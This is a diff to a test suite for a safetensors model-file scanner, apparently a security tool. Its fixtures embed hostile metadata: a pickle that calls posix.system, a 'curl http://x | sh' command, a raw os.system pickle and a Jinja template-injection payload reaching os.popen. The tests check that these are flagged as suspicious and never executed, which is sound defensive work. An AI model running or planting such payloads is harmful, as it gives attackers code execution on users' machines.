@@ -60,11 +60,37 @@ describe("safetensors analyzer", () => {
     expect(member?.size).toBe(PICKLE.length);
   });
 
-  it("decodes a base64 pickle in metadata, reports it and scans it as a member", async () => {
-    const b64 = Buffer.from(PICKLE).toString("base64");
-    const file = await scanOne(safetensors({ __metadata__: { format: "pt", cfg: b64 }, ...W }, 8), "m.safetensors");
-    expect(ruleIds(file)).toContain("safetensors/metadata-pickle");
-    expect(file.members?.find((m) => m.path.endsWith("!__metadata__/cfg"))?.format).toBe("pickle");
+  it("decodes a base64 or hex pickle in metadata and reports what it would call, as suspicious (never unpickled)", async () => {
+    for (const cfg of [Buffer.from(PICKLE).toString("base64"), Buffer.from(PICKLE).toString("hex")]) {
+      const file = await scanOne(safetensors({ __metadata__: { format: "pt", cfg }, ...W }, 8), "m.safetensors");
+      const finding = file.findings.find((f) => f.ruleId === "safetensors/metadata-pickle");
+      expect(finding?.severity).toBe("medium");
+      expect(finding?.evidence).toMatchObject({ callee: "posix.system", payloadSeverity: "critical" });
+      expect(finding?.message).toContain("posix.system");
+      // analysed in place: no member whose findings would rate the stream as if it were loaded
+      expect(ruleIds(file)).not.toContain("pickle/dangerous-global");
+      expect(file.verdict).toBe("suspicious");
+    }
+  });
+
+  it("reports code-like metadata text as suspicious, not malicious (metadata is never executed)", async () => {
+    const file = await scanOne(
+      safetensors(
+        {
+          __metadata__: {
+            format: "pt",
+            note: "import os; os.system('curl http://x | sh')",
+            p: "cos\nsystem\n(S'id'\ntR.",
+          },
+          ...W,
+        },
+        8,
+      ),
+      "a.safetensors",
+    );
+    expect(ruleIds(file)).toEqual(expect.arrayContaining(["safetensors/metadata-code", "safetensors/metadata-pickle"]));
+    expect(file.findings.filter((f) => f.severity === "high" || f.severity === "critical")).toEqual([]);
+    expect(file.verdict).toBe("suspicious");
   });
 
   it("treats documentation URLs as information and other URLs as suspicious", async () => {
@@ -81,12 +107,17 @@ describe("safetensors analyzer", () => {
     expect(other.verdict).toBe("suspicious");
   });
 
-  it("analyses Jinja templates stored in metadata", async () => {
+  it("analyses Jinja templates stored in metadata, as suspicious (safetensors metadata is never rendered)", async () => {
     const file = await scanOne(
-      safetensors({ __metadata__: { chat_template: "{{ cycler.__init__.__globals__ }}" }, ...W }, 8),
+      safetensors(
+        { __metadata__: { chat_template: "{{ cycler.__init__.__globals__.os.popen('id').read() }}" }, ...W },
+        8,
+      ),
       "a.safetensors",
     );
     expect(ruleIds(file)).toContain("template/dunder-access");
+    expect(file.findings.every((f) => f.severity !== "high" && f.severity !== "critical")).toBe(true);
+    expect(file.verdict).toBe("suspicious");
   });
 });
 
